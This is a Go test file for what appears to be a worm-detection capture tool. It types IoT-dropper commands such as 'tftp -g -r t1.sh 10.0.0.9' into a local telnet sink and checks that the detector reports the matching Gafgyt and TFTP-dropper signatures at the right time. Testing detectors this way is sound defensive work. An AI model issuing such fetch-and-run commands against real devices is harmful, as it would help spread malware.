package wire

import (
	"context"
	"errors"
	"io"
	"net"
	"slices"
	"testing"
	"time"

	"wormsink/internal/evidencetest"
	"wormsink/internal/testutil"
	"wormsink/signatures"
)

// startTelnetCapture starts, in the namespace ns, a capture on its loopback
// whose streams end after idle, and a telnet listener (port 23 of the
// test's own namespace: no other test can hold it) that reads whatever it
// is sent. Serve's result arrives on the channel once the caller shuts the
// capture down.
func startTelnetCapture(t *testing.T, ns testutil.Netns, idle time.Duration, rec *evidencetest.Recorder) (*Capture, <-chan error) {
	t.Helper()
	var c *Capture
	var ln net.Listener
	inNetns(t, string(ns), func() {
		var err error
		if c, err = NewCapture("lo", CaptureConfig{Sigs: StaticSet{signatures.Default()}, Rec: rec, Workers: 1, RingMB: 4,
			Matcher: Options{StreamIdle: idle}}); err != nil {
			t.Fatal(err)
		}
		if ln, err = net.Listen("tcp", "127.0.0.1:23"); err != nil {
			t.Fatal(err)
		}
	})
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() { io.Copy(io.Discard, conn); conn.Close() }()
		}
	}()
	runErr := make(chan error, 1)
	go func() { runErr <- c.Serve(context.Background()) }()
	return c, runErr
}

// TestLiveCaptureOpenCommandIdle: on a live capture, real TCP connections
// to a telnet port that type a fetch command and then stay open, without a
// line end: the unlisted name is reported weak once its stream has been
// idle for the idle timeout (not before), and the name typed in pieces is
// reported strong alone, never weak by its first letter.
func TestLiveCaptureOpenCommandIdle(t *testing.T) {
	ns := testutil.NewNetns(t, "wsgap")
	const idle = 600 * time.Millisecond
	var rec evidencetest.Recorder
	c, runErr := startTelnetCapture(t, ns, idle, &rec)
	defer func() {
		if err := c.Shutdown(context.Background()); err != nil {
			t.Errorf("Shutdown: %v", err)
		}
		if err := <-runErr; !errors.Is(err, ErrCaptureClosed) {
			t.Errorf("Serve: %v, want ErrCaptureClosed", err)
		}
	}()

	dial := func() *net.TCPConn {
		var conn net.Conn
		inNetns(t, string(ns), func() {
			var err error
			if conn, err = net.Dial("tcp", "127.0.0.1:23"); err != nil {
				t.Fatal(err)
			}
		})
		t.Cleanup(func() { conn.Close() })
		return conn.(*net.TCPConn)
	}
	// The capture is ready when it sees a probe connection's segment.
	probe := dial()
	waitFor(t, "the capture reading the namespace's loopback", func() bool {
		probe.Write([]byte("x"))
		return c.Stats().Packets > 0
	})

	typed := dial()
	for _, piece := range []string{"t", "ftp", " -g", " -r", " t", "ftp", "1.sh", " 10.0.0.9"} {
		if _, err := typed.Write([]byte(piece)); err != nil {
			t.Fatal(err)
		}
	}
	open := dial()
	if _, err := open.Write([]byte("tftp -g -r firmware.bin 10.0.0.9")); err != nil {
		t.Fatal(err)
	}
	sent := time.Now()
	typedPort := uint16(typed.LocalAddr().(*net.TCPAddr).Port)
	openPort := uint16(open.LocalAddr().(*net.TCPAddr).Port)
	waitFor(t, "the open command reported when idle", func() bool {
		return len(found(rec.Events(), openPort)) > 0
	})
	if waited := time.Since(sent); waited < idle {
		t.Errorf("reported %s after the command was sent: before the idle time %s", waited, idle)
	}
	evs := rec.Events()
	if got := found(evs, openPort); !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
		t.Errorf("open command: %v", got)
	}
	// The typed stream went idle before the open one: it has ended too.
	if got := found(evs, typedPort); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong"}) {
		t.Errorf("typed in pieces: %v", got)
	}
	for _, ev := range evs {
		if ev.Port == openPort && ev.Time.After(sent.Add(idle/2)) {
			t.Errorf("reported at %s: want the time of its last segment (sent %s)", ev.Time, sent)
		}
	}
}

// TestLiveCaptureEndsStreamsAtShutdown: a fetch left open on a live
// connection, long before its stream could be idle, is reported when the
// capture shuts down, as at the end of a capture file.
func TestLiveCaptureEndsStreamsAtShutdown(t *testing.T) {
	ns := testutil.NewNetns(t, "wsgapx")
	var rec evidencetest.Recorder
	c, runErr := startTelnetCapture(t, ns, time.Hour, &rec)
	var conn net.Conn
	inNetns(t, string(ns), func() {
		var err error
		if conn, err = net.Dial("tcp", "127.0.0.1:23"); err != nil {
			t.Fatal(err)
		}
	})
	defer conn.Close()
	// The handshake's segments are read (counted) once the capture runs;
	// the command's segment after them.
	waitFor(t, "the capture reading the namespace's loopback", func() bool { return c.Stats().Packets > 0 })
	before := c.Stats().Packets
	if _, err := conn.Write([]byte("tftp -g -r shutdown.bin 10.0.0.9")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the command's segment read", func() bool { return c.Stats().Packets > before })
	port := uint16(conn.LocalAddr().(*net.TCPAddr).Port)
	if got := found(rec.Events(), port); len(got) != 0 {
		t.Fatalf("reported before the capture ended: %v", got)
	}
	if err := c.Shutdown(context.Background()); err != nil {
		t.Errorf("Shutdown: %v", err)
	}
	if err := <-runErr; !errors.Is(err, ErrCaptureClosed) {
		t.Errorf("Serve: %v, want ErrCaptureClosed", err)
	}
	if got := found(rec.Events(), port); !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
		t.Errorf("after shutdown: %v", got)
	}
}
